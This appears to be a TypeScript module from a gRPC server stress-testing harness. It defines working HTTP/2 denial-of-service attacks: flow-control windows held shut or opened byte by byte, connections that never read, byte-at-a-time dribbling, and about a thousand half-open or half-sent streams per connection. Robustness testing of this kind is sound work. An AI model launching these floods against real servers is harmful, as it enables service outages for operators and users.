import type { Attack } from "../attack.js";
import type { AttackClass } from "../attack-class.js";
import { OPENING, type RawConnection } from "../raw/connection.js";
import {
  data,
  END_STREAM,
  headers,
  INITIAL_WINDOW_SIZE,
  MAX_FRAME_BYTES,
  MAX_WINDOW,
  PREFACE,
  repeated,
  settings,
  uint32,
  windowUpdate,
} from "../raw/frames.js";
import {
  CHECK,
  CHECK_PATH,
  EMPTY_MESSAGE,
  HEALTH_WATCH_PATH,
  REFLECTION_PATH,
  requestBlock,
  STATE_PATH,
  STATE_REQUEST,
} from "../raw/requests.js";

/** As many as a server of gRPC usually takes on one connection, less an innocent call. */
const STREAMS = 999;
const LARGE_MESSAGE_BYTES = 4 * 1024 * 1024 - 5;

const CHECK_BLOCK = requestBlock(CHECK_PATH);
const STATE_BLOCK = requestBlock(STATE_PATH);

function call(connection: RawConnection, block: Buffer, body: Buffer): Buffer {
  const stream = connection.takeStream();
  return Buffer.concat([headers(stream, block), data(stream, body, END_STREAM)]);
}

/** Connections on which something is sent once, and which then stay as they are until the end. */
function held(
  connections: number,
  send: (connection: RawConnection) => Uint8Array,
  { opening = OPENING, hasInnocent = true }: { readonly opening?: Buffer; readonly hasInnocent?: boolean } = {},
) {
  return async (attack: Attack) => {
    await Promise.all(
      Array.from({ length: connections }, async () => {
        const connection = attack.open({ opening });
        if (!(await connection.connected())) return;
        const finish = hasInnocent ? attack.beginInnocent(connection) : undefined;
        await connection.write(send(connection), 2_000);
        await attack.pause(attack.remainingMs);
        await finish?.();
      }),
    );
    await attack.pause(attack.remainingMs);
  };
}

/** Calls for large answers on windows as wide as can be, for as long as the server takes them, and nothing is read. */
function neverReading(attack: Attack): Promise<void> {
  const opening = Buffer.concat([settings([INITIAL_WINDOW_SIZE, MAX_WINDOW]), OPENING]);
  return attack.flood({ connections: 20, opening, isReading: false }, (connection) =>
    repeated(100, () => call(connection, STATE_BLOCK, STATE_REQUEST)),
  );
}

/** Answers that wait for a window, which is then opened byte by byte. */
function byteByByte(attack: Attack): Promise<void> {
  return attack.flood(
    { connections: 8, opening: Buffer.concat([settings([INITIAL_WINDOW_SIZE, 0]), OPENING]) },
    (connection) => {
      if (connection.nextStream > 1)
        return repeated(10, () => repeated(100, (index) => windowUpdate(1 + 2 * index, 1)));
      return repeated(100, () => call(connection, STATE_BLOCK, STATE_REQUEST));
    },
  );
}

/** A connection whose every byte arrives by itself. */
function dribbled(attack: Attack): Promise<void> {
  const bytes = Buffer.concat([PREFACE, settings(), headers(1, CHECK_BLOCK), data(1, CHECK, END_STREAM)]);
  return attack.eachUntilOver(200, async () => {
    const connection = attack.open({ hasPreface: false });
    if (!(await connection.connected())) return;
    for (let at = 0; at < bytes.length && connection.isOpen && !attack.isOver; at++) {
      connection.socket.write(bytes.subarray(at, at + 1));
      await attack.pause(1);
    }
    connection.abort();
  });
}

/** Bodies in DATA frames of one byte each. */
function dataByByte(attack: Attack): Promise<void> {
  return attack.flood({ connections: 8, hasInnocent: true }, (connection) => {
    if (connection.openCalls > 500) return undefined;
    return repeated(10, () => {
      const stream = connection.takeStream();
      const body = Array.from(CHECK, (byte, index) =>
        connection.data(stream, Buffer.of(byte), index === CHECK.length - 1 ? END_STREAM : 0),
      );
      return Buffer.concat([headers(stream, CHECK_BLOCK), ...body]);
    });
  });
}

/** Messages of 4 MiB, of which as much is sent as the windows allow, on as many streams as there may be. */
async function halfSent(attack: Attack): Promise<void> {
  const begin = Buffer.concat([Buffer.of(0), uint32(LARGE_MESSAGE_BYTES)]);
  const part = Buffer.alloc(MAX_FRAME_BYTES);
  await attack.eachUntilOver(4, async () => {
    const connection = attack.open();
    if (!(await connection.connected())) return;
    const finish = attack.beginInnocent(connection);
    const streams = Array.from({ length: STREAMS }, () => connection.takeStream());
    await connection.write(
      Buffer.concat(
        streams.map((stream) => Buffer.concat([headers(stream, CHECK_BLOCK), connection.data(stream, begin)])),
      ),
      2_000,
    );
    while (connection.isOpen && !attack.isOver) {
      const stream = streams.find((each) => connection.room(each) >= part.length + CHECK.length);
      if (stream === undefined) await attack.pause(5);
      else await connection.write(connection.data(stream, part));
    }
    await finish();
    connection.abort();
  });
}

const halfOf = (message: Buffer) => message.subarray(0, message.length - 2);

export const WINDOWS: readonly AttackClass[] = [
  {
    name: "windows-shut",
    title: "Windows held shut before 1,000 answers, 20 connections",
    run: held(20, (connection) => repeated(STREAMS, () => call(connection, STATE_BLOCK, STATE_REQUEST)), {
      opening: settings([INITIAL_WINDOW_SIZE, 0]),
      hasInnocent: false,
    }),
  },
  { name: "never-reading", title: "Peers that never read, calls for large answers", run: neverReading },
  { name: "windows-byte-by-byte", title: "Windows opened byte by byte before 100 answers", run: byteByByte },
  { name: "dribbled", title: "A byte a millisecond, 200 connections", run: dribbled },
  { name: "data-byte-by-byte", title: "DATA of one byte each", run: dataByByte },
  {
    name: "half-open",
    title: "1,000 checks without the end of their body, 10 connections",
    run: held(10, (connection) => repeated(STREAMS, () => headersAndPart(connection, CHECK_BLOCK, halfOf(CHECK)))),
  },
  {
    name: "half-open-watch",
    title: "1,000 Health/Watch without the end of their body, 10 connections",
    run: held(10, (connection) =>
      repeated(STREAMS, () => headersAndPart(connection, requestBlock(HEALTH_WATCH_PATH), halfOf(EMPTY_MESSAGE))),
    ),
  },
  {
    name: "half-open-reflection",
    title: "1,000 reflection streams left open, 10 connections",
    run: held(10, (connection) =>
      repeated(STREAMS, () => headersAndPart(connection, requestBlock(REFLECTION_PATH), Buffer.alloc(0))),
    ),
  },
  {
    name: "open-watches",
    title: "1,000 Health/Watch that stay, 10 connections",
    run: held(10, (connection) =>
      repeated(STREAMS, () => call(connection, requestBlock(HEALTH_WATCH_PATH), EMPTY_MESSAGE)),
    ),
  },
  { name: "half-sent", title: "Messages of 4 MiB half sent on 1,000 streams, 4 connections", run: halfSent },
];

function headersAndPart(connection: RawConnection, block: Buffer, part: Buffer): Buffer {
  const stream = connection.takeStream();
  return part.length === 0 ? headers(stream, block) : Buffer.concat([headers(stream, block), data(stream, part)]);
}
